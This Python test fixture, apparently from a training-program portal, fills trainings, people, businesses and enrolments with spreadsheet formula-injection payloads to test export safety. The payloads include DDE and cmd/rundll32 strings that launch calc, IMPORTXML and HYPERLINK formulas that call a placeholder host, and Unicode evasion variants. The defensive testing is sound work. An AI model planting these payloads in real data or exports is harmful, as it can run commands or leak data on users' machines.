"""What people write to make a program compute: each as the name of a person, the title and the remark of a training."""

from dataclasses import dataclass
from typing import Any

from portal.models import User
from tests.factories.participants import BusinessFactory, EnrolmentFactory, PersonFactory
from tests.factories.portal import UserFactory
from tests.factories.programs import BudgetLineFactory, TrainingFactory
from tests.portal.spreadsheets.test_writing import PAYLOADS as SIGNS

MORE = (
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML("http://contoh.invalid/"&A1,"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '+HYPERLINK("http://contoh.invalid";"klik")',
    "-2+3+cmd|' /C calc'!D2",
    "%0D=1+1",
    "' =1+1",
    "''=1+1",
    "'|calc",
    '"=1+1"',
    "=1+1\n=2+2",
    "batik;=1+1",
    "batik\n=1+1",
    "batik\t=1+1",
    "=1+1;=2+2;",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2028=1+1",
    "﹦1+1",
    "∑=1",
    "of:=1+1",
    "msoxl:=1+1",
    "_x003D_x0031_+1",
    "<f>1+1</f>",
    "{=SUM(A1:A9)}",
    "0x1F",
    "1/2",
    "-003",
    "+62 812-3456-7890",
    "1.234.567,89",
    "12-03-2025",
)
# No database stores a zero byte or half a character.
PAYLOADS = [text for text in (*SIGNS, *MORE) if "\0" not in text and "\ud800" not in text]


@dataclass
class Traps:
    """Who may export, and what the rows are called."""

    supervisor: User
    operator: User
    training: Any


def build() -> Traps:
    """Make a training a payload, and one training in which everybody is called like one."""
    line = BudgetLineFactory()
    for number, text in enumerate(PAYLOADS, start=1):
        TrainingFactory(budget_line=line, title=text, notes=text, venue=text, field=text[:60], batch=number)
    training = TrainingFactory(budget_line=line, title="Pelatihan Uji", notes="", venue="")
    for text in PAYLOADS:
        person = PersonFactory(office=training.office, name=text, address=text, occupation=text[:80], birth_place=text)
        BusinessFactory(person=person, name=text, product=text, legality=text)
        EnrolmentFactory(training=training, person=person)
    return Traps(
        supervisor=UserFactory(supervisor=True, username="pengawas.uji"),
        operator=UserFactory(operator=True, username="operator.uji", agency=training.office),
        training=training,
    )
